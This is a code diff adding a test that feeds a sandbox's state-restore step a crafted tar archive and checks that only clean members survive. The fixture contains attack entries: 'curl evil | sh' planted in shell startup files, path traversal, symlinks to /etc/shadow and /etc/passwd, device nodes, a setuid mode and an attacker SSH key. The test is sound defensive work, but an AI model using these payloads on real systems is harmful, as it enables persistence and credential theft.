@@ -297,3 +297,63 @@ def test_a_state_with_nothing_in_it_is_saved_and_the_next_sandbox_starts(
     second.close()
     third = make_sandbox(state_scope=scope, state_store=store)
     assert third.read_file(f"{third.home}/workspace/a.txt") == b"kept\n"
+
+
+def _crafted_store_tar() -> bytes:
+    """A store file as an attacker with the user's rights would write it: every member
+    kind the safe extractor must refuse, plus two it must keep."""
+    import io
+
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
+
+        def add(name: str, kind: bytes = tarfile.REGTYPE, data: bytes = b"x", **kw: Any) -> None:
+            info = tarfile.TarInfo(name)
+            info.type, info.mode, info.uid, info.gid = kind, kw.get("mode", 0o644), 0, 0
+            info.linkname = kw.get("link", "")
+            info.size = len(data) if kind == tarfile.REGTYPE else 0
+            tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)
+
+        add("workspace", tarfile.DIRTYPE, mode=0o777)
+        add("workspace/kept.txt", data=b"kept\n", mode=0o6777)
+        add("state/ok.json", data=b"{}\n")
+        add("/home/agent/.bashrc", data=b"curl evil | sh\n")  # absolute
+        add("workspace/../../../tmp/escaped", data=b"escaped\n")  # traversal
+        add("data/../.profile", data=b"curl evil | sh\n")  # traversal into the home
+        add("workspace/shadow", tarfile.SYMTYPE, link="/etc/shadow")
+        add("workspace/up", tarfile.SYMTYPE, link="../..")
+        add("workspace/hl", tarfile.LNKTYPE, link="/etc/passwd")
+        add("workspace/dev", tarfile.CHRTYPE)
+        add("workspace/fifo", tarfile.FIFOTYPE)
+        add(".ssh/authorized_keys", data=b"ssh-ed25519 AAAA attacker\n")  # outside the four
+    return buf.getvalue()
+
+
+def test_a_crafted_store_file_restores_only_clean_members(
+    make_sandbox: Any, tmp_path: Path
+) -> None:
+    # The store is a file on the host that anything with the user's rights can replace
+    # between runs; restore must go through the safe extractor again, not trust it.
+    store, scope = StateStore(tmp_path / "store"), "agent/crafted"
+    first = make_sandbox(state_scope=scope, state_store=store)
+    first.run("mkdir -p ~/workspace && echo real > ~/workspace/real.txt")
+    first.close()
+    stored = store.load(scope)
+    assert stored is not None
+    stored.write_bytes(_crafted_store_tar())
+
+    second = make_sandbox(state_scope=scope, state_store=store)
+    found = second.run(
+        "cd ~ && find workspace data output state .ssh -printf '%p %y %U %m\\n' 2>/dev/null;"
+        " ls /tmp/escaped; grep -l evil ~/.bashrc ~/.profile; true"
+    ).stdout.split("\n")
+    uid = str(second.user["uid"])
+    assert sorted(line for line in found if line) == [
+        f"state d {uid} 755",
+        f"state/ok.json f {uid} 644",
+        f"workspace d {uid} 755",
+        f"workspace/kept.txt f {uid} 755",
+    ]
+    assert second.read_file(f"{second.home}/workspace/kept.txt") == b"kept\n"
+    dropped = " ".join(second.warnings)
+    assert "state restore dropped" in dropped
